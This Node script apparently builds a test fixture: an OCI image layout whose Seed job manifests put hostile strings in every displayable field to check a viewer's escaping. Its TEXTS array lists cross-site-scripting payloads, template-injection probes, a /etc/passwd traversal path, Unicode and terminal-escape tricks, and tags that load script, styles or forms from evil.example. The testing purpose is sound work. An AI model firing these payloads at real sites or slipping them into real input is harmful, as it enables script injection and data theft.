// Writes an image layout of hostile manifests, one image a text: hostile.mjs FOLDER
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";

/** Texts that would do something if a page took them for anything but text. */
export const TEXTS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/pixel.png'>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) "',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext></mtext><script>alert(1)</script></math>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=https://evil.example/x.swf>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><input name=q></form>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>click</a>",
  "<div style='position:fixed;inset:0;background:red'>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<!--><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "https://evil.example/\"onmouseover=alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;script>alert(1)</script>",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "{{ 7*7 }}",
  "{% for x in y %}{{ x }}{% endfor %}",
  "${7*7} #{7*7} <%= 7*7 %>",
  "{{constructor.constructor('alert(1)')()}}",
  "`${alert(1)}`",
  "';alert(1);//",
  "\");alert(1);//",
  "a\u202Egnp.exe",
  "a\u2066b\u2069c",
  "zero\u200Bwidth\u200Bspace\uFEFF",
  "tags \u{E0041}\u{E0042}",
  "\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
  "\u001B[31mred\u001B[0m",
  "line\nbreak\r\nand\ttab",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
  "﷽﷽﷽﷽",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "../../../../etc/passwd",
  "..",
  "a/b?c#d&e=f%2Fg",
  "long".repeat(25000),
  "לעברית و العربية ltr",
];

/** A manifest that has the text wherever a page may show one. */
function manifest(whole, number) {
  const text = whole.slice(0, 2000);
  return {
    seedVersion: "1.0.0",
    job: {
      name: text,
      jobVersion: `${number}.0.0`,
      packageVersion: "1.0.0",
      title: whole,
      description: `${text} described`,
      tags: [text, "hostile"],
      maintainer: { name: text, email: text, organization: text, url: text, phone: text },
      timeout: 60,
      interface: {
        command: text,
        inputs: { files: [{ name: text, mediaTypes: [text, "image/tiff"] }], json: [{ name: text, type: "string" }] },
        outputs: { files: [{ name: text, pattern: text, mediaType: text }], json: [{ name: text, key: text, type: "number" }] },
        mounts: [{ name: text, path: text, mode: "ro" }],
        settings: [{ name: text, secret: true }],
      },
      resources: { scalar: [{ name: "cpus", value: 1 }, { name: text, value: 2 }] },
      errors: [{ code: 1, name: text, title: text, description: text, category: "data" }],
      [text]: text,
    },
  };
}

function write(folder) {
  mkdirSync(`${folder}/blobs/sha256`, { recursive: true });
  const blob = (value, mediaType) => {
    const bytes = Buffer.from(typeof value === "string" ? value : JSON.stringify(value));
    const hash = createHash("sha256").update(bytes).digest("hex");
    writeFileSync(`${folder}/blobs/sha256/${hash}`, bytes);
    return { mediaType, digest: `sha256:${hash}`, size: bytes.length };
  };
  const layer = blob("", "application/vnd.oci.image.layer.v1.tar");
  const manifests = TEXTS.map((text, number) => {
    const label = JSON.stringify(manifest(text, number));
    const config = blob(
      { architecture: "amd64", os: "linux", config: { Labels: { "com.ngageoint.seed.manifest": label } }, rootfs: { type: "layers", diff_ids: [layer.digest] } },
      "application/vnd.oci.image.config.v1+json",
    );
    const image = blob({ schemaVersion: 2, mediaType: "application/vnd.oci.image.manifest.v1+json", config, layers: [layer] }, "application/vnd.oci.image.manifest.v1+json");
    return { ...image, annotations: { "org.opencontainers.image.ref.name": `hostile/image-${number}-seed:1.0.0` } };
  });
  writeFileSync(`${folder}/oci-layout`, JSON.stringify({ imageLayoutVersion: "1.0.0" }));
  writeFileSync(`${folder}/index.json`, JSON.stringify({ schemaVersion: 2, manifests }));
}

if (process.argv[1]?.endsWith("hostile.mjs")) write(process.argv[2]);
